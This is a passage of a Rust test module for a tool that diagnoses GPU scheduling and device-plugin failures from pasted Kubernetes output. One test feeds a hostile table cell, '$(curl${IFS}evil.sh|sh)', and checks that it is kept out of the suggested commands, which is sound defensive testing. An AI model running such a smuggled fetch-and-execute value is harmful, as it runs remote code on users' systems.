  Warning  FailedScheduling  5m  default-scheduler  0/2 nodes are available: 1 Insufficient nvidia.com/gpu, 1 node(s) had untolerated taint {node-role.kubernetes.io/control-plane: }. preemption: 0/2 nodes are available: 1 No preemption victims found for incoming pod, 1 Preemption is not helpful for scheduling..
";
        let (_, evs) = parse(paste, "x").unwrap();
        let names: Vec<_> = evs.iter().map(|e| e.target.name.as_deref()).collect();
        assert_eq!(
            names,
            [Some("trainer-0")],
            "the running plugin Pod is left out"
        );
        assert!(
            evs[0]
                .signals
                .iter()
                .any(|s| s.reason.as_deref() == Some("FailedScheduling")),
            "{:?}",
            evs[0].signals
        );

        // Every listed Pod runs: the unattributed lines still make an item of their own.
        let running = paste.replace("0/1     Pending", "1/1     Running");
        let (_, evs) = parse(&running, "x").unwrap();
        assert!(
            evs.iter().any(|e| e
                .signals
                .iter()
                .any(|s| s.reason.as_deref() == Some("FailedScheduling"))),
            "the events are not dropped"
        );
    }

    #[test]
    fn an_idle_device_plugin_daemonset_explains_the_pending_pod_beside_it() {
        let paste = "\
$ kubectl get ds -A | grep nvid
nvidia-device-plugin   nvdp-nvidia-device-plugin   0         0         0       0            0           <none>   4m20s
$ kubectl get pods
NAME        READY   STATUS    RESTARTS   AGE
notebook    1/1     Running   0          3d
trainer-0   0/1     Pending   0          5m
";
        let (_, evs) = parse(paste, "x").unwrap();
        assert_eq!(evs.len(), 1, "the DaemonSet row is context, not a target");
        assert_eq!(evs[0].target.name.as_deref(), Some("trainer-0"));
        assert_eq!(
            evs[0].target.namespace, None,
            "the DaemonSet's namespace is not the Pod's"
        );
        let d = crate::diagnose::diagnose(&evs[0]);
        // The plugin's own selector matches no node: the advertisement is missing, not the Pod's selector.
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert!(d.causes[0].summary.contains("nvdp-nvidia-device-plugin"));
        assert!(d.causes[0].summary.contains("DESIRED 0"));
        // A DaemonSet that wants Pods, or one that is not a device plugin, says nothing.
        for other in [
            paste.replace(
                "   0         0         0       0            0",
                "   2         2         2       2            2",
            ),
            paste.replace("nvdp-nvidia-device-plugin", "nvdp-mps-control-daemon"),
        ] {
            let (_, evs) = parse(&other, "x").unwrap();
            assert_eq!(
                crate::diagnose::diagnose(&evs[0]).primary,
                crate::rules::Category::Unknown
            );
        }
    }

    #[test]
    fn a_device_plugin_daemonset_that_is_not_ready_is_the_device_plugin() {
        // From eksctl #6063: `get daemonset -A` pasted with its rows run together on one line.
        let paste = "ubuntu@ip-10-0-1-135:~$ kubectl get daemonset -A                 NAMESPACE     NAME                             DESIRED   CURRENT   READY   UP-TO-DATE   AVAILABLE   NODE SELECTOR   AGE            kube-system   aws-node                         2         2         2       2            2           <none>          12m            kube-system   neuron-device-plugin-daemonset   2         2         0       2            0           <none>          2m\n";
        let (_, evs) = parse(paste, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert!(
            d.causes[0].summary.contains("READY 0/2"),
            "{}",
            d.causes[0].summary
        );
        assert!(
            d.causes[0].next[0]
                .command
                .contains("neuron-device-plugin-daemonset -n kube-system"),
            "{:?}",
            d.causes[0].next
        );
        // A namespace cell that is not a name is not put into a command.
        let hostile = "$(curl${IFS}evil.sh|sh)  nvidia-device-plugin-daemonset   2         2         0       2            0\n";
        let (_, evs) = parse(hostile, "x").unwrap();
        let d = crate::diagnose::diagnose(&evs[0]);
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert!(
            d.causes[0].next.iter().all(|n| !n.command.contains("$(")),
            "{:?}",
            d.causes[0].next
        );
        // All ready: the listing says nothing of the plugin.
        let ready = paste.replace(
            "neuron-device-plugin-daemonset   2         2         0       2            0",
            "neuron-device-plugin-daemonset   2         2         2       2            2",
        );
        let (_, evs) = parse(&ready, "x").unwrap();
        assert_ne!(
            crate::diagnose::diagnose(&evs[0]).primary,
            crate::rules::Category::DevicePlugin
        );
    }

    /// What the engine says of the first target read from a paste.
    fn verdict(paste: &str) -> crate::diagnose::Diagnosis {
        let (_, evs) = parse(paste, "x").unwrap();
        crate::diagnose::diagnose(&evs[0])
    }

    /// Beside a listing whose Pods all run, the reporter's word that a GPU is missing is a target of its own;
    /// a label, or kubectl's own output, is not.
    #[test]
    fn words_beside_a_listing_that_runs_are_a_target_only_when_they_complain() {
        let listing = "NAME                                   READY   STATUS    RESTARTS   AGE\nnvidia-device-plugin-daemonset-abcde   1/1     Running   0          5m\nnvidia-driver-daemonset-fghij          1/1     Running   0          5m\n";
        let nameless = |words: &str| {
            let (_, evs) = parse(&format!("{words}\n{listing}"), "x").unwrap();
            evs.iter().any(|e| e.target.name.is_none())
        };
        assert!(nameless(
            "The nodes still show nvidia.com/gpu: 0 under Allocatable after installing the operator."
        ));
        assert!(nameless("my GPU pod is still Pending"));
        assert!(!nameless("Here is what I see:"));
        assert!(!nameless("configmap/volcano-vgpu-device-config created"));
    }

    #[test]
    fn a_logs_command_says_whose_log_without_taking_the_target() {
        use crate::rules::Category;
        // A kubelet line names the Pod that fails; the plugin's log pasted after it does not take its place.
        let kubelet = "Jan 01 00:00:00 node1 kubelet[123]: E0101 00:00:00.000000 123 pod_workers.go:1298] \"Error syncing pod, skipping\" err=\"failed to \\\"StartContainer\\\" for \\\"cuda\\\" with CrashLoopBackOff: \\\"back-off 5m0s restarting failed container=cuda pod=trainer-0_ml(abc)\\\"\" pod=\"ml/trainer-0\" podUID=\"abc\"\n$ kubectl logs -n kube-system nvidia-device-plugin-daemonset-x2x2x\nI0101 00:00:00.000000 1 main.go:1] Registered device plugin for 'nvidia.com/gpu' with Kubelet\n";
        let d = verdict(kubelet);
        assert_eq!(d.target.name.as_deref(), Some("trainer-0"));
        assert_eq!(d.primary, Category::Other);
        // A listing beside the plugin's log: the log is still read as the plugin's.
        let listed = "$ kubectl get pods -n kube-system\nNAME                                   READY   STATUS    RESTARTS   AGE\nnvidia-device-plugin-daemonset-abcde   1/1     Running   0          5m\ncoredns-7db6d8ff4d-abcde               1/1     Running   0          5m\n\n$ kubectl logs nvidia-device-plugin-daemonset-abcde -n kube-system\nI0101 00:00:00.000000       1 main.go:199] Starting FS watcher for the nvidia device plugin.\nI0101 00:00:00.000000       1 main.go:221] Starting Plugins.\n";
        let (_, evs) = parse(listed, "x").unwrap();
        let loose = evs
            .iter()
            .find(|e| e.target.name.is_none())
            .expect("the log");
        assert_eq!(
            crate::diagnose::diagnose(loose).primary,
            Category::DevicePlugin
        );
        // The GPU Operator 1.x device plugin's toolkit-validation vectorAdd is the driver's; a workload's,
        // even one named for validation, is the image's CUDA against the node's driver.
        let sample = "[Vector addition of 50000 elements]\nFailed to allocate device vector A (error code CUDA driver version is insufficient for CUDA runtime version)!\n";
        let operator = format!(
            "$ oc logs nvidia-device-plugin-daemonset-pfrlf -c toolkit-validation -n gpu-operator-resources\n{sample}"
        );
        assert_eq!(verdict(&operator).primary, Category::DevicePlugin);
        let workload = format!("$ kubectl logs model-validation-job-x7k2p\n{sample}");
        assert_eq!(verdict(&workload).primary, Category::RuntimeHook);
        assert_eq!(verdict(sample).primary, Category::RuntimeHook);
    }

    #[test]
    fn whose_image_or_volume_it_is_decides_whether_the_stack_is_down() {
        use crate::rules::Category;
        // A GPU-stack Pod's row run into prose is the stack's; another device's plugin is not.
        let driver = "My pods: nvidia-driver-daemonset-lc4g4 0/1 Init:InvalidImageName 0 4m27s and nothing else runs";
        assert_eq!(verdict(driver).primary, Category::DevicePlugin);
        let sriov = "My pods: kube-sriov-device-plugin-amd64-x7k2p 0/1 ImagePullBackOff 0 5m and coredns is fine. Back-off pulling image \"ghcr.io/k8snetworkplumbingwg/sriov-network-device-plugin:latest\"";
        assert_eq!(verdict(sriov).primary, Category::Other);
        // The validator DaemonSet holds the device plugin back; its child Pods do not.
        let held = "3m5s        Warning   Failed             pod/nvidia-operator-validator-xmh7b            Error: cannot find volume \"driver-install-path\" to mount into container \"driver-validation\"";
        assert_eq!(verdict(held).primary, Category::DevicePlugin);
        let child = "3m5s        Warning   FailedMount        pod/nvidia-cuda-validator-x7k2p            MountVolume.SetUp failed for volume \"run-nvidia-validations\" : hostPath type check failed";
        assert_eq!(verdict(child).primary, Category::Other);
    }

    #[test]
    fn a_kubelet_that_exits_says_why_in_full() {
        let d = verdict(
            "Jan 01 00:00:00 node1 kubelet[1]: E0101 00:00:00.000000 1 run.go:72] \"command failed\" err=\"failed to run Kubelet: misconfiguration: kubelet cgroup driver: \\\"cgroupfs\\\" is different from docker cgroup driver: \\\"systemd\\\"\"",
        );
        assert_eq!(d.causes[0].rule, Some("GW527"));
        assert!(
            d.causes[0]
                .summary
                .contains("is different from docker cgroup driver"),
            "{}",
            d.causes[0].summary
        );
        // aws-neuron-sdk#415: the runtime cannot read the driver's version through /dev/neuron.
        let neuron = verdict(
            "2022-04-02 18:19:58,646 [WARN ] MODEL_LOG - 2022-Apr-02 18:19:58.0646    28:28    ERROR   NRT:nrt_init                                Unable to read compatible Driver version.",
        );
        assert_eq!(neuron.causes[0].rule, Some("GW450"));
    }

    #[test]
    fn output_that_stops_at_hami_core_is_the_injected_library() {
        // volcano-sh/devices: `nvidia-smi` in a vGPU Pod prints HAMi-core's first line and hangs.
        let hangs = "root@gpu-deploy-plugin-hami-volcano-5779959bc9-cwd92:/workspace# nvidia-smi
[HAMI-core Msg(51:139774888380224:libvgpu.c:838)]: Initializing.....
";
        let d = verdict(hangs);
        assert_eq!(d.primary, crate::rules::Category::RuntimeHook);
        assert_eq!(d.causes[0].next[0].place, crate::rules::Where::Node);
        // 4paradigm's older name for it, crashing.
        let crashes = "nvidia-smi
[4pdvGPU Msg(29:140241530709824:libvgpu.c:813)]: Initializing...
[4pdvGPU Msg(29:140241530709824:context.c:120)]: vdevices_pci=0000:84:00.0
Segmentation fault (core dumped)
";
        let d = verdict(crashes);
        assert_eq!(d.primary, crate::rules::Category::RuntimeHook);
        assert!(d.causes[0].evidence[0].text.contains("Segmentation fault"));
        // Once the library says it is initialised, the workload got past it.
        let passed =
            format!("{hangs}[HAMI-core Msg(30:140387636202368:libvgpu.c:855)]: Initialized\n");
        assert_ne!(
            verdict(&passed).primary,
            crate::rules::Category::RuntimeHook
        );
        // Output that goes on after the library's lines got past it.
        for after in ["Epoch 1/10 loss=0.51\n", "True\n"] {
            let ran = format!("{hangs}{after}");
            assert_ne!(
                verdict(&ran).primary,
                crate::rules::Category::RuntimeHook,
                "{after}"
            );
        }
    }

    #[test]
    fn ollama_finding_no_nvidia_library_is_the_runtime_only_when_it_found_no_gpu() {
        // ollama #6383: it searched for libcuda.so and found nothing.
        let log = include_str!(
            "../../tests/fixtures/real/s61001-ollama-helm-no-runtimeclass-libcuda-not-found.txt"
        );
        assert_eq!(verdict(log).primary, crate::rules::Category::HandlerMissing);
        // An empty search followed by a GPU it does use (another vendor's library, a later search) is not.
        let found = format!(
            "{log}time=2024-08-15T15:39:42.102Z level=INFO source=types.go:107 msg=\"inference compute\" id=GPU-0 library=cuda\n"
        );
        assert_ne!(
            verdict(&found).primary,
            crate::rules::Category::HandlerMissing
        );
        // An empty search for ROCm's library alone says nothing of NVIDIA's.
        let rocm = "time=2024-08-15T15:39:41.513Z level=DEBUG source=gpu.go:472 msg=\"Searching for GPU library\" name=librocm_smi64.so*\ntime=2024-08-15T15:39:41.513Z level=DEBUG source=gpu.go:525 msg=\"discovered GPU libraries\" paths=[]\n";
        assert_ne!(
            verdict(rocm).primary,
            crate::rules::Category::HandlerMissing
        );
    }

    #[test]
    fn nvml_unknown_error_on_the_node_itself_is_the_driver() {
        // AKS A10: `nvidia-smi` fails after `kubectl debug node/…` and `chroot /host`.
        let host = include_str!(
            "../../tests/fixtures/real/s58013-aks-a10-vgpu-cuda-busy-unavailable-nvml-unknown.txt"
        );
        let d = verdict(host);
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert_eq!(d.causes[0].rule, Some("GW432"));
        // The same error inside a container is access lost after the container started.
        let container = "$ kubectl exec -it trainer-0 -- nvidia-smi\nFailed to initialize NVML: Unknown Error\n";
        assert_eq!(
            verdict(container).primary,
            crate::rules::Category::RuntimeHook
        );
    }

    #[test]
    fn a_device_plugin_log_shows_its_error_lines() {
        // ROCm/k8s-device-plugin: the AMD plugin registers with the kubelet, then logs an error in klog's
        // format with no error word in it.
        let log = "I0708 02:16:53.301785 1 plugin.go:129] gpu: Registering the DPI with Kubelet
I0708 02:16:53.302111 1 plugin.go:141] gpu: Registration for endpoint amd.com_gpu
I0708 02:16:53.334427 1 main.go:149] Watching GPU with bus ID: 0000:28:00.0 NUMA Node: []
E0708 02:16:53.334443 1 main.go:151] No NUMA node found with bus ID: 0000:28:00.0
";
        let d = verdict(log);
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert_eq!(d.causes[0].evidence.len(), 1);
        assert!(d.causes[0].evidence[0].text.starts_with("E0708 "));
        // The same lines from a log that is not a device plugin's say nothing of the GPU.
        let other = log.replace("Registering the DPI with Kubelet", "Starting");
        assert_ne!(
            verdict(&other).primary,
            crate::rules::Category::DevicePlugin
        );
    }

    #[test]
    fn a_device_plugin_log_beside_a_placed_pod_still_explains_it() {
        // k8s-device-plugin #55: the plugin's log, then `describe` of a plugin Pod cut off after its node.
        let log = "2018/06/06 12:40:16 Could not register device plugin: context deadline exceeded
2018/06/06 12:40:16 Could not contact Kubelet, retrying. Did you enable the device plugin feature gate?
";
        let describe = "Name:           nvidia-device-plugin-daemonset-2jqgk
Namespace:      nvidia
Node:           node02/192.168.5.102
Start Time:     Wed, 06 Jun 2018 22:59:32 +0900
";
        let d = verdict(&format!("{log}{describe}"));
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        assert_eq!(d.causes[0].rule, Some("GW127"));
        // Without the log the cut-off describe shows no state.
        assert_eq!(verdict(describe).primary, crate::rules::Category::Unknown);
        // The scheduler's word beside a Pod that has a node and runs is stale, even when its category is the
        // device plugin's (HAMi #1527: `2 node unregistered`).
        let scheduler = "**What happened**:Warning  FailedScheduling  67s   hami-scheduler  0/4 nodes are available: 1 NodeUnfitPod, 1 node(s) had untolerated taint {node.kubernetes.io/unreachable: }, 2 node unregistered. preemption: 0/4 nodes are available: 1 Preemption is not helpful for scheduling, 3 No preemption victims found for incoming pod..
";
        let running = "Name:         gpu-pod
Namespace:    default
Node:         node02/192.168.5.102
Status:       Running
Containers:
  cuda:
    State:          Running
      Started:      Thu, 23 Sep 2021 13:57:59 -0500
    Ready:          True
";
        assert_eq!(
            verdict(&format!("{scheduler}\n{running}")).primary,
            crate::rules::Category::None
        );
    }

    #[test]
    fn a_running_gpu_stack_pod_is_not_the_gpu_pod() {
        // k3s #4070: `describe` of a device plugin Pod that runs; the GPU Pod that does not start is not shown.
        let plugin = "Name:                 nvidia-device-plugin-daemonset-zhv25
Namespace:            kube-system
Node:                 vdrd/10.18.0.208
Status:               Running
Containers:
  nvidia-device-plugin-ctr:
    State:          Running
      Started:      Thu, 23 Sep 2021 13:57:59 -0500
    Ready:          True
    Restart Count:  0
";
        assert_eq!(verdict(plugin).primary, crate::rules::Category::Unknown);
        // The same state for a workload Pod: nothing blocks it.
        let workload = plugin.replace("nvidia-device-plugin-daemonset-zhv25", "cuda-vectoradd");
        assert_eq!(verdict(&workload).primary, crate::rules::Category::None);
    }

    #[test]
    fn a_describe_cut_to_its_conditions_is_not_fine_when_the_pod_is_not_ready() {
        // gpu-operator #2463: the driver Pod's describe output from its mounts to its volumes.
        let cut = "      /run/nvidia from run-nvidia (rw)
      /var/log from var-log (rw)
Conditions:
  Type                        Status
  PodReadyToStartContainers   True
  Initialized                 True
  Ready                       False
  ContainersReady             False
  PodScheduled                True
Volumes:
  run-nvidia:
    Type:          HostPath (bare host directory volume)
    Path:          /run/nvidia
";
        let d = verdict(cut);
        assert_eq!(
            (d.primary, d.gate),
            (crate::rules::Category::Unknown, crate::rules::Gate::Runtime)
        );
        assert_eq!(
            verdict(&cut.replace(
                "Ready                       False",
                "Ready                       True"
            ))
            .primary,
            crate::rules::Category::None
        );
        // A completed Pod is not ready either: its containers' state says it ran.
        let completed = "Containers:
  cuda-vectoradd:
    Image:          nvcr.io/nvidia/k8s/cuda-sample:vectoradd-cuda11.7.1-ubuntu20.04
    State:          Terminated
      Reason:       Completed
      Exit Code:    0
    Ready:          False
    Limits:
      nvidia.com/gpu:  1
Conditions:
  Type              Status
  Initialized       True
  Ready             False
  ContainersReady   False
  PodScheduled      True
Events:  <none>
";
        assert_eq!(verdict(completed).primary, crate::rules::Category::None);
        // A node's Ready condition is not a Pod's.
        let node = "Name:               gpu-node-1
Roles:              <none>
Conditions:
  Type             Status  LastHeartbeatTime                 LastTransitionTime                Reason                       Message
  ----             ------  -----------------                 ------------------                ------                       -------
  Ready            False   Mon, 01 Jan 2024 00:00:00 +0000   Mon, 01 Jan 2024 00:00:00 +0000   KubeletNotReady              PLEG is not healthy
";
        let d = verdict(node);
        assert!(
            d.causes
                .iter()
                .all(|c| !c.summary.contains("not ready and the input")),
            "{d:?}"
        );
    }

    #[test]
    fn a_toolkit_pod_failing_in_its_init_containers_is_the_driver_not_ready() {
        // microk8s #5247: the GPU Operator's toolkit has one init container, driver-validation.
        let paste = "nvidia-operator-validator-hhgp7                               0/1     Init:CrashLoopBackOff   4 (34s ago)   119s
nvidia-container-toolkit-daemonset-rxrx9                      0/1     Init:CrashLoopBackOff   4 (29s ago)   119s
gpu-feature-discovery-s7lsd                                   0/1     Init:CrashLoopBackOff   4 (19s ago)   118s
";
        let (_, evs) = parse(paste, "x").unwrap();
        let ds = crate::diagnose::diagnose_all(&evs);
        assert_eq!(
            ds[0].target.name.as_deref(),
            Some("nvidia-container-toolkit-daemonset-rxrx9")
        );
        assert_eq!(ds[0].primary, crate::rules::Category::DevicePlugin);
        assert!(ds[0].causes[0].summary.contains("driver-validation"));
        // `oc get po` typed with a space after `Init:`.
        let spaced = paste.replace("Init:CrashLoopBackOff", "Init: CrashLoopBackOff");
        let (_, evs) = parse(&spaced, "x").unwrap();
        assert_eq!(
            crate::diagnose::diagnose_all(&evs)[0].primary,
            crate::rules::Category::DevicePlugin
        );
        // Failing in its own container, the toolkit says nothing of the driver: it does not set up the node's
        // runtime for the nvidia runtime (NVIDIA/gpu-operator#248); the validator's and feature discovery's own
        // loops name no cause.
        let own = paste.replace("Init:CrashLoopBackOff", "CrashLoopBackOff");
        let (_, evs) = parse(&own, "x").unwrap();
        for d in crate::diagnose::diagnose_all(&evs) {
            let toolkit = d
                .target
                .name
                .as_deref()
                .is_some_and(|n| n.starts_with("nvidia-container-toolkit"));
            let want = if toolkit {
                crate::rules::Category::HandlerMissing
            } else {
                crate::rules::Category::Unknown
            };
            assert_eq!(d.primary, want, "{d:?}");
        }
    }

    #[test]
    fn a_failing_plugin_or_driver_pod_and_a_waiting_stack_pod_are_the_device_plugin() {
        // gpu-operator #369: `oc get po -A`, single-spaced, with `Init: CrashLoopBackOff` typed with a space.
        let paste = "NAMESPACE NAME READY STATUS RESTARTS AGE
gpu-operator-resources gpu-feature-discovery-ft66m 0/1 CrashLoopBackOff 755 2d18h
gpu-operator-resources nvidia-container-toolkit-daemonset-fnpln 0/1 Init: 0/1 0 2d18h
gpu-operator-resources nvidia-dcgm-exporter-s4wh7 0/1 Init: CrashLoopBackOff 755 2d18h
gpu-operator-resources nvidia-device-plugin-daemonset-4n5fm 0/1 Init: CrashLoopBackOff 755 2d18h
";
        let (_, evs) = parse(paste, "x").unwrap();
        let ds = crate::diagnose::diagnose_all(&evs);
        assert_eq!(
            ds[0].target.name.as_deref(),
            Some("nvidia-device-plugin-daemonset-4n5fm")
        );
        assert_eq!(ds[0].primary, crate::rules::Category::DevicePlugin);
        // The feature-discovery Pod's own crash has a cause the listing does not show.
        let gfd = ds
            .iter()
            .find(|d| d.target.name.as_deref() == Some("gpu-feature-discovery-ft66m"))
            .unwrap();
        assert_eq!(gfd.primary, crate::rules::Category::Unknown);
        // The Pod that waits in its init containers is listed after the one that fails.
        let toolkit = ds
            .iter()
            .position(|d| {
                d.target.name.as_deref() == Some("nvidia-container-toolkit-daemonset-fnpln")
            })
            .unwrap();
        assert_eq!(ds[toolkit].primary, crate::rules::Category::DevicePlugin);
        let plugin = ds
            .iter()
            .position(|d| d.target.name.as_deref() == Some("nvidia-device-plugin-daemonset-4n5fm"))
            .unwrap();
        // The DCGM exporter fails in its init containers, which check the driver and the toolkit: it comes
        // after the plugin and before the Pod that only waits.
        let exporter = ds
            .iter()
            .position(|d| d.target.name.as_deref() == Some("nvidia-dcgm-exporter-s4wh7"))
            .unwrap();
        assert_eq!(ds[exporter].primary, crate::rules::Category::DevicePlugin);
        assert_eq!((plugin, exporter, toolkit), (0, 1, 2));
        // gpu-operator #131: a plugin Pod that waits on its init container waits for the driver and the
        // toolkit (the operator's operands do); a workload that waits there has a cause the row does not show.
        let waiting = "gpu-operator-resources       nvidia-device-plugin-daemonset-qf49z                         0/1     Init:0/1                     1          84m\n";
        assert_eq!(
            verdict(waiting).primary,
            crate::rules::Category::DevicePlugin
        );
        let workload =
            waiting.replace("nvidia-device-plugin-daemonset-qf49z", "trainer-7f9c-qf49z");
        assert_eq!(verdict(&workload).primary, crate::rules::Category::Unknown);
        // The same row failing is the plugin.
        let failing = waiting.replace("Init:0/1      ", "Init:Error    ");
        assert_eq!(
            verdict(&failing).primary,
            crate::rules::Category::DevicePlugin
        );
        // A row cut out of the listing by `grep`, its STATUS still typed with a space.
        let grepped = "gpu-operator-resources nvidia-device-plugin-daemonset-4n5fm 0/1 Init: CrashLoopBackOff 755 2d18h\n";
        let d = verdict(grepped);
        assert_eq!(
            d.target.name.as_deref(),
            Some("nvidia-device-plugin-daemonset-4n5fm")
        );
        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
        // microk8s #2763: the driver Pod whose init container keeps failing is the plugin's problem; the same
        // Pod once it runs again is not, whatever its last restart said.
        let driver =
            include_str!("../../tests/fixtures/real/c023-microk8s-driver-daemonset-pending.txt");
        assert_eq!(
            verdict(driver).primary,
            crate::rules::Category::DevicePlugin
        );
        let running = driver.replace(
            "Status:               Pending",
            "Status:               Running",
        );
        assert_ne!(running, driver);
        assert_ne!(
            verdict(&running).primary,
            crate::rules::Category::DevicePlugin
        );
        // microk8s #2575: `kubectl get all` names its rows `pod/NAME`; the target is the Pod's own name.
        let all = "pod/nvidia-device-plugin-daemonset-rgl9z       0/1     Init:0/1                0          3m57s\n";
        let d = verdict(all);
        assert_eq!(
            d.target.name.as_deref(),
            Some("nvidia-device-plugin-daemonset-rgl9z")
        );
        assert!(
            d.causes[0].next[0]
                .command
                .starts_with("kubectl describe pod nvidia-device-plugin-daemonset-rgl9z "),
            "{:?}",
            d.causes[0].next
        );
        // Evicted (by the kubelet, for the node's pressure), or another device's plugin: not the GPU's.
        let evicted = verdict(&failing.replace("Init:Error ", "Evicted    "));
        assert_eq!(evicted.primary, crate::rules::Category::Other);
        assert_eq!(evicted.causes[0].rule, Some("GW508"));
        let sriov = "kube-system   kube-sriov-device-plugin-amd64-9xk2w   0/1   Error   4   1h\n";
        assert_eq!(verdict(sriov).primary, crate::rules::Category::Unknown);
    }

    #[test]
    fn a_structured_log_is_read_as_log_lines() {
        // nos #21: controller-runtime's zap records, one per line; none is a Kubernetes object.
        let paste = r#"{"level":"info","ts":1680276095.8139107,"msg":"applying desired partitioning","controller":"mig-partitioner-controller","controllerKind":"Pod","namespace":"likku","name":"exec-dev-14105-1230399844"}
{"level":"info","ts":1680276095.8921742,"msg":"plan applied","controller":"mig-partitioner-controller","controllerKind":"Pod","namespace":"likku","name":"exec-dev-14105-1230399844"}
"#;
        let (format, evs) = parse(paste, "x").unwrap();
        assert_eq!(format, Format::Text);
        // dmesg stamps and JSON log records after the cut are no part of the document.
        for after in [
            "[   12.345678] NVRM: API mismatch: the client has the version 535.104.05, but this kernel module has the version 535.54.03.",
            "{\"level\":\"info\",\"ts\":1700000000,\"msg\":\"reconciling\"}",
        ] {
            let cut = format!(
                "{{\n  \"kind\": \"Pod\",\n  \"status\": {{\n    \"pha\nThen the node log shows this:\n{after}\n"
            );
            assert_eq!(
                parse(&cut, "x").map(|(f, _)| f).ok(),
                Some(Format::Text),
                "{after}"
            );
        }
        assert!(!evs[0].signals.is_empty());
        let one = paste.lines().next().unwrap();
        assert_eq!(parse(one, "x").unwrap().0, Format::Text);
        // Docker's json-file log (a container's log file on the node), one line or several.
        let docker = r#"{"log":"milvus: error while loading shared libraries: libcudart.so.12: cannot open shared object file: No such file or directory\n","stream":"stderr","time":"2026-05-28T14:36:42.837399726Z"}"#;
        for paste in [docker.to_string(), format!("{docker}\n{docker}\n")] {
            let (format, evs) = parse(&paste, "x").unwrap();
            assert_eq!(format, Format::Text);
            assert!(
                evs[0].signals[0]
                    .message
                    .starts_with("milvus: error while loading")
            );
        }
        // What Docker escapes is read as the container wrote it, and a listing after the log keeps its Pod.
        let escaped = r#"{"log":"E0525 15:20:29.961540       1 device_state.go:776] IMEXDaemonsWithDNSNames feature requires GPU driver version \u003e= 570.158.1, but found 550.144.6\n","stream":"stderr","time":"2025-05-25T15:20:29.961612345Z"}"#;
        let (_, evs) = parse(escaped, "x").unwrap();
        assert!(evs[0].signals[0].message.contains("version >= 570.158.1"));
        let listed = format!(
            "{docker}\n\nNAME                                READY   STATUS             RESTARTS      AGE\nmilvus-standalone-6d8f7c9b5-x2v4q   0/1     CrashLoopBackOff   5 (30s ago)   4m\n"
        );
        let (_, evs) = parse(&listed, "x").unwrap();
        assert_eq!(
            evs[0].target.name.as_deref(),
            Some("milvus-standalone-6d8f7c9b5-x2v4q")
        );
        // Beside a Pod's YAML the Docker line leaves the YAML a Pod.
        let yaml = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: cuda-vectoradd\n  namespace: default\nspec:\n  containers:\n  - name: cuda-vectoradd\n    resources:\n      limits:\n        nvidia.com/gpu: 1\nstatus:\n  phase: Pending\n  conditions:\n  - type: PodScheduled\n    status: \"False\"\n    reason: Unschedulable\n    message: '0/3 nodes are available: 3 Insufficient nvidia.com/gpu. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod.'\n---\n";
        let (_, evs) = parse(&format!("{yaml}{escaped}\n"), "x").unwrap();
        assert!(
            evs.iter()
                .any(|e| e.target.name.as_deref() == Some("cuda-vectoradd") && e.pod.is_some()),
            "{:?}",
            evs.iter().map(|e| &e.target.name).collect::<Vec<_>>()
        );
        // A JSON block the container printed, cut off where the paste ends or whole, is its output.
        let config = [
            r#"{"log":"Running with config:\n","stream":"stderr","time":"2025-05-25T15:20:29.961612345Z"}"#,
            r#"{"log":"{\n","stream":"stderr","time":"2025-05-25T15:20:29.961612345Z"}"#,
            r#"{"log":"  \"version\": \"v1\",\n","stream":"stderr","time":"2025-05-25T15:20:29.961612345Z"}"#,
            r#"{"log":"  \"flags\": {\n","stream":"stderr","time":"2025-05-25T15:20:29.961612345Z"}"#,
        ];
        for paste in [config[1..].join("\n"), config.join("\n")] {
            let paste = format!("{paste}\n{escaped}");
            let (format, evs) = parse(&paste, "x").unwrap();
            assert_eq!(format, Format::Text);
            assert!(
                evs[0]
                    .signals
                    .iter()
                    .any(|s| s.message.contains("version >= 570.158.1"))
            );
            assert!(parse(&paste[..paste.len() - escaped.len()], "x").is_ok());
        }
    }

    #[test]
    fn a_node_log_pasted_right_under_the_events_table_is_not_an_events_message() {
        let paste = "Events:\n  Type    Reason     Age   From               Message\n  ----    ------     ----  ----               -------\n  Normal  Scheduled  11m   default-scheduler  Successfully assigned mck-test/neal-0729-6-68b4895fb7-6868w to ai-app-8-1-msxf\nJul 30 20:39:03 ai-app-8-1-msxf kubelet[45878]: I0730 20:39:03.752799   45878 topology_manager.go:212] \"Topology Admit Handler\"\nI0730 20:39:03.752952   45878 manager.go:773] \"Looking for needed resources\" needed=1 resourceName=\"nvidia.com/gpu\"\n";
        let (_, evs) = parse(paste, "x").unwrap();
        let messages: Vec<&str> = evs[0].signals.iter().map(|s| s.message.as_str()).collect();
        assert_eq!(
            messages[0],
            "Successfully assigned mck-test/neal-0729-6-68b4895fb7-6868w to ai-app-8-1-msxf"
        );
        assert!(
            messages[1..]
                .iter()
                .any(|m| m.contains("Topology Admit Handler"))
                && messages[1..]
                    .iter()
                    .any(|m| m.contains("Looking for needed resources")),
            "{messages:?}"
        );
        // The journal's other date formats end it too.
        for head in [
            "2025-07-30T20:39:03+0800 ai-app-8-1-msxf kubelet[45878]: ",
            "Jul 30 20:39:03.752799 ai-app-8-1-msxf kubelet[45878]: ",
        ] {
            let other = paste.replace("Jul 30 20:39:03 ai-app-8-1-msxf kubelet[45878]: ", head);
            let (_, evs) = parse(&other, "x").unwrap();
            assert!(
                !evs[0].signals[0].message.contains("Topology"),
                "{head}: {:?}",
                evs[0].signals
            );
        }
        // A message's next line at the margin (describe prints a message's own line breaks so) is still the
        // message's.
        let table = &paste[..paste.find("Jul 30").unwrap()];
        let wrapped = format!(
            "{table}\"Looking for needed resources\" needed=1 resourceName=\"nvidia.com/gpu\"\n"
        );
        let (_, evs) = parse(&wrapped, "x").unwrap();
        assert!(
            evs[0].signals[0]
                .message
                .contains("\"Looking for needed resources\""),
            "{:?}",
            evs[0].signals
        );
    }

    #[test]
    fn the_command_above_a_listing_is_not_a_target_of_its_own() {
        // NVIDIA/gpu-operator #961: `oc get pods` above a listing where every Pod runs or has completed.
        let paste = " oc get pods\nNAME                                       READY   STATUS      RESTARTS      AGE\ncuda-vectoradd                             0/1     Completed   0             4m24s\ngpu-operator-c9778c77c-hvxcz               1/1     Running     1             34m\n";
        let (_, evs) = parse(paste, "x").unwrap();
        assert!(
            evs.iter().all(|e| e.target.name.is_some()),
